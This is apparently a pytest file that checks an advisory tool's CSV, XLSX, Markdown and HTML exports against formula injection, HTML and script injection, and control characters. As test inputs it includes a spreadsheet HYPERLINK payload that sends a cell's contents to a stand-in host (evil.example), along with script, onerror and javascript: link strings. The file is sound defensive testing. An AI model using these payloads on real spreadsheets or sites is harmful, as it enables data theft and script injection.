"""Exports are data, never code: no spreadsheet formulas, no raw HTML, no crash on stored text."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from dataclasses import dataclass
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markupsafe import escape

from advisor.evaluate.engine import Engine
from advisor.model.errors import InputError
from advisor.model.facts import TEXT, Assessment, parse_assessment
from advisor.model.plan import Plan
from advisor.model.vocabulary import Language, origin, term
from advisor.output.export import RATIONALE_COLUMNS, to_html, to_xlsx
from advisor.output.formats import FORMATS, ExportFormat, export
from advisor.output.render import to_markdown, to_table
from advisor.planning.planner import make_plan

# OWASP's list of characters that make a spreadsheet read a cell as a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Keys of the plan whose text comes from the answers or from the rule files.
FREE_TEXT = ("organisation", "name", "title", "text")


def _rewrite(value: Any, change: Any) -> Any:
    """The plan's JSON with every free-text string passed through `change`."""
    if isinstance(value, dict):
        return {
            k: change(v) if k in FREE_TEXT and isinstance(v, str) else _rewrite(v, change)
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [_rewrite(v, change) for v in value]
    return value


def _plan(contoso: Assessment, engine: Engine, change: Any, language: Language = "en") -> Plan:
    with engine.version() as compiled:
        plan = make_plan(contoso, compiled, language)
    return Plan.model_validate(_rewrite(plan.model_dump(mode="json"), change))


def _xlsx_cells(data: bytes) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@dataclass(frozen=True)
class SheetCell:
    sheet: str
    column: str
    text: str
    live: bool  # a spreadsheet evaluates it, on opening or once a person edits the cell


def _read_csv(data: bytes) -> list[SheetCell]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [
        SheetCell("csv", str(column), text, live=text.startswith(TRIGGERS))
        for row in rows
        for column, text in enumerate(row)
    ]


def _read_xlsx(data: bytes) -> list[SheetCell]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [
        SheetCell(
            sheet.title,
            cell.column_letter,
            str(cell.value),
            # XML reads a CR back as a line feed: a cell written starting with one starts with that
            live=cell.data_type == "f"
            or (str(cell.value).startswith((*TRIGGERS, "\n")) and not cell.quotePrefix),
        )
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


# How each tabular format is read back, as a spreadsheet would open it.
READERS = {"csv": _read_csv, "xlsx": _read_xlsx}
TABULAR = [spec.name for spec in FORMATS.values() if spec.tabular]
# Every text of the plan that comes from the answers or the rule files (group ids changed the same
# way wherever they are used, so that the plan still holds together).
HOSTILE_KEYS = ("organisation", "name", "title", "text", "rule", "source", "version", "id", "group")
MARK = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _hostile(value: Any, trigger: str) -> Any:
    if isinstance(value, dict):
        return {
            k: f"{trigger}{MARK}{v}" if k in HOSTILE_KEYS and isinstance(v, str) else _hostile(v, trigger)
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [_hostile(v, trigger) for v in value]
    return value


def test_every_tabular_format_is_read_back_here() -> None:
    """A new tabular format needs its reader above, so that the next test covers it."""
    assert set(TABULAR) == set(READERS)


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("kind", TABULAR)
def test_no_cell_of_any_tabular_export_is_a_formula(
    contoso: Assessment, engine: Engine, kind: str, trigger: str
) -> None:
    with engine.version() as compiled:
        ordinary = make_plan(contoso, compiled, "en")
    plan = Plan.model_validate(_hostile(ordinary.model_dump(mode="json"), trigger))

    cells = READERS[kind](export(plan, kind))
    assert [f"{c.sheet}!{c.column}: {c.text!r}" for c in cells if c.live] == []
    hostile = [c for c in cells if MARK in c.text]
    assert {c.sheet for c in hostile} == {c.sheet for c in cells}  # every sheet carries it
    starts = (trigger + MARK, trigger.replace("\r", "\n") + MARK)  # XML reads a CR back as a line feed
    assert any(c.text.lstrip("'").startswith(starts) for c in hostile)  # at a cell's start too


def test_a_neutralised_cell_keeps_its_text_after_the_quote(contoso: Assessment, engine: Engine) -> None:
    plan = _plan(contoso, engine, lambda text: "=1+1")
    cells = _xlsx_cells(export(plan, "xlsx"))
    assert "=1+1" in [c.value for c in cells if c.quotePrefix]  # no apostrophe that is not in the name
    assert "Rollout plan for =1+1" in [c.value for c in cells if not c.quotePrefix]  # only a start matters
    rows = list(csv.reader(io.StringIO(export(plan, "csv").decode("utf-8-sig"))))
    assert "'=1+1" in [cell for row in rows for cell in row]
    ordinary = _plan(contoso, engine, lambda text: text)
    assert "IT" in [c.value for c in _xlsx_cells(export(ordinary, "xlsx"))]


@pytest.mark.parametrize("kind", sorted(FORMATS))
def test_stored_text_with_control_characters_still_exports(
    contoso: Assessment, engine: Engine, kind: str
) -> None:
    """A plan saved before control characters were refused must still export, in every format."""
    plan = _plan(contoso, engine, lambda text: f"A\x00B\x01C\x0bD\x1bE\x7fF {text}")
    data = export(plan, kind)
    assert data
    if kind == "xlsx":
        texts = [c.value for c in _xlsx_cells(data) if isinstance(c.value, str)]
        assert any(t.startswith("A\ufffdB\ufffdC\ufffdD\ufffdE") for t in texts)
        assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in texts)


@pytest.mark.parametrize("spec", FORMATS.values(), ids=list(FORMATS))
def test_a_format_is_binary_exactly_when_its_writer_writes_bytes(
    contoso: Assessment, engine: Engine, spec: ExportFormat
) -> None:
    """The registry's `binary` is what the command line refuses to print and OpenAPI calls binary."""
    body = spec.write(_plan(contoso, engine, lambda text: text))
    assert isinstance(body, bytes) == spec.binary


def test_the_pdf_html_shows_every_text_as_written(contoso: Assessment, engine: Engine) -> None:
    attack = "<script>alert(1)</script> {{ 7 * 7 }} {% raw %}"
    plan = _plan(contoso, engine, lambda text: f"{attack} {text}", language="sv")
    page = to_html(plan)
    assert "<script" not in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt; {{ 7 * 7 }} {% raw %}") > 20
    assert "Distributionsplan för &lt;script&gt;" in page
    assert "content: 'Sida ' counter(page) ' av ' counter(pages)" in page


def _html_of(markdown: str) -> str:
    html: str = MarkdownIt("commonmark").enable("table").render(markdown)
    return html


def test_markdown_escapes_html_from_names_reasons_and_rule_texts(contoso: Assessment, engine: Engine) -> None:
    attack = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
    plan = _plan(contoso, engine, lambda text: f"{attack} {text}")
    markdown = export(plan, "markdown").decode()
    html = _html_of(markdown)
    assert "<img" not in html
    assert "<script" not in html
    assert html.count("&lt;script&gt;alert(2)&lt;/script&gt;") > 20  # shown as text, everywhere
    assert "IT executives" in html  # still readable


def test_markdown_escapes_links_emphasis_and_table_cells(contoso: Assessment, engine: Engine) -> None:
    plan = _plan(contoso, engine, lambda text: f"[x](javascript:alert(1)) *a* | b\nc `d` {text}")
    html = _html_of(export(plan, "markdown").decode())
    assert 'href="javascript' not in html
    assert "<em>" not in html
    assert "<code>" not in html
    assert "[x](javascript:alert(1)) *a* | b c `d`" in html
    table = html.split("<table>")[1].split("</table>")[0]
    header = table.split("</thead>")[0]
    rows = table.split("</thead>")[1].split("<tr>")[1:]
    # a | inside a name neither adds a column nor ends the row
    assert len(rows) == 7
    assert all(r.count("<td>") == header.count("<th>") == 5 for r in rows)


CONTROL = ["\x00", "\x01", "\x07", "\x0b", "\x1b", "\x7f", "\x85", "\x9f", "\n", "\r", "\t"]


def _with(contoso: Assessment, path: str, value: Any) -> dict[str, Any]:
    data = contoso.model_dump(mode="json")
    if path == "organisation.name":
        data["organisation"]["name"] = value
    else:
        field = path.split(".")[1]
        data["groups"][1][field] = [value, "Oslo"] if field == "locations" else value
    return data


@pytest.mark.parametrize("char", CONTROL)
@pytest.mark.parametrize(
    ("path", "where"),
    [
        ("organisation.name", "organisation.name"),
        ("groups.name", "groups[1].name"),
        ("groups.department", "groups[1].department"),
        ("groups.locations", "groups[1].locations[0]"),
    ],
)
def test_free_text_refuses_control_characters(contoso: Assessment, char: str, path: str, where: str) -> None:
    with pytest.raises(InputError) as english:
        parse_assessment(_with(contoso, path, f"Sales{char}North"))
    assert [(p.path, p.message) for p in english.value.problems] == [
        (where, f"must not contain control characters (U+{ord(char):04X})")
    ]
    with pytest.raises(InputError) as swedish:
        parse_assessment(_with(contoso, path, f"Sales{char}North"), language="sv")
    assert [(p.path, p.message) for p in swedish.value.problems] == [
        (where, f"får inte innehålla styrtecken (U+{ord(char):04X})")
    ]


@pytest.mark.parametrize("text", ["Åsa's team", "Sales\u2028North", "Ünïcødé ✓", "R&D <West>", "=1+1"])
def test_ordinary_text_is_still_accepted(contoso: Assessment, text: str) -> None:
    for path in ("organisation.name", "groups.name", "groups.department", "groups.locations"):
        parse_assessment(_with(contoso, path, text))


def test_the_schema_states_the_same_rule_as_the_validator(contoso: Assessment) -> None:
    """Every code point up to U+00A0 and the Unicode spaces: schema and validator agree."""
    schema = Assessment.model_json_schema()
    pattern = schema["$defs"]["Group"]["properties"]["name"]["pattern"]
    assert schema["$defs"]["Organisation"]["properties"]["name"]["pattern"] == pattern
    chars = [chr(c) for c in range(0xA1)] + ["\u1680", "\u2000", "\u2028", "\u3000", "\ufeff", "x"]
    for char in chars:
        for value in (char, f"a{char}b", f"{char} ", f"a{char}"):
            by_schema = re.search(pattern, value) is not None  # as JSON Schema reads "pattern"
            try:
                parse_assessment(_with(contoso, "groups.name", value))
                by_model = True
            except InputError:
                by_model = False
            assert by_schema == by_model, (repr(value), by_schema, by_model)


_ECMA = """
const pattern = new RegExp(JSON.parse(process.argv[1]), "u");
const values = JSON.parse(require("fs").readFileSync(0, "utf8"));
console.log(JSON.stringify(values.map((v) => pattern.test(v))));
"""


@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js for ECMA-262 regular expressions")
def test_the_pattern_means_the_same_in_ecma_262() -> None:
    """JSON Schema's patterns are ECMA-262: a JavaScript engine agrees with Python's `re`."""
    chars = [chr(c) for c in range(0xA1)] + ["\u1680", "\u2000", "\u2028", "\u3000", "\ufeff", "x"]
    values = [v for c in chars for v in (c, f"a{c}b", f"{c} ", f"a{c}")]
    result = subprocess.run(
        ["node", "-e", _ECMA, json.dumps(TEXT)],
        input=json.dumps(values),
        capture_output=True,
        text=True,
        check=True,
    )
    by_ecma = json.loads(result.stdout)
    by_python = [re.search(TEXT, v) is not None for v in values]
    assert [v for v, a, b in zip(values, by_ecma, by_python, strict=True) if a != b] == []
    assert sum(by_python) > 300


@pytest.mark.parametrize("language", ["en", "sv"])
def test_every_export_says_where_each_reason_comes_from(
    contoso: Assessment, engine: Engine, language: Language
) -> None:
    from openpyxl import load_workbook

    plan = _plan(contoso, engine, lambda text: text, language=language)
    ours, guide = term("beyond_guide", language), term("guide", language)
    rationale = load_workbook(io.BytesIO(to_xlsx(plan))).worksheets[1]
    header, *rows = [[cell.value for cell in row] for row in rationale.iter_rows()]
    assert header[-1] == ("Provenance" if language == "en" else "Ursprung")
    assert {row[-1] for row in rows} >= {ours, guide}
    rule, text = RATIONALE_COLUMNS.index("Rule"), RATIONALE_COLUMNS.index("Reason")
    by_rule = {row[rule]: row[-1] for row in rows}
    for group in plan.groups:
        for reason in group.reasons:
            assert by_rule[reason.rule] == origin(reason.provenance, language)
    split = plan.split_by.reasons[0]
    assert [split.rule, split.text, origin(split.provenance, language)] == [
        rows[0][rule],
        rows[0][text],
        rows[0][-1],
    ]
    warnings = load_workbook(io.BytesIO(to_xlsx(plan))).worksheets[2]
    _, *noted = [[cell.value for cell in row] for row in warnings.iter_rows()]
    assert [(row[2], row[4]) for row in noted] == [
        (w.text, origin(w.provenance, language)) for w in plan.warnings
    ]
    markdown = to_markdown(plan)
    page = to_html(plan)
    for shown in (markdown, page):
        assert f"; {ours})" in shown  # reasons
        assert f"; {guide})" in shown
    warned = [line for line in markdown.splitlines() if line.startswith("- **")]
    assert [line.rsplit(" (", 1)[1] for line in warned] == [
        f"{origin(w.provenance, language)})" for w in plan.warnings
    ]
    for label in {origin(w.provenance, language) for w in plan.warnings}:  # and each warning in the PDF
        assert page.count(f"<i>({label})</i></li>") == [
            origin(w.provenance, language) for w in plan.warnings
        ].count(label)
    assert str(escape(f"{split.rule}; {origin(split.provenance, language)})")) in page  # the split's reason


def test_a_plan_saved_before_reasons_had_provenance_still_loads_and_shows(
    contoso: Assessment, engine: Engine
) -> None:
    def without(node: Any) -> Any:
        if isinstance(node, dict):
            return {k: without(v) for k, v in node.items() if k != "provenance"}
        return [without(v) for v in node] if isinstance(node, list) else node

    saved = without(_plan(contoso, engine, lambda text: text).model_dump(mode="json"))
    old = Plan.model_validate(saved)  # as stored by the site and the API before this change
    assert all(r.provenance is None for g in old.groups for r in g.reasons)
    for shown in (to_markdown(old), to_table(old), to_html(old)):
        assert "None" not in shown
    assert to_xlsx(old).startswith(b"PK")
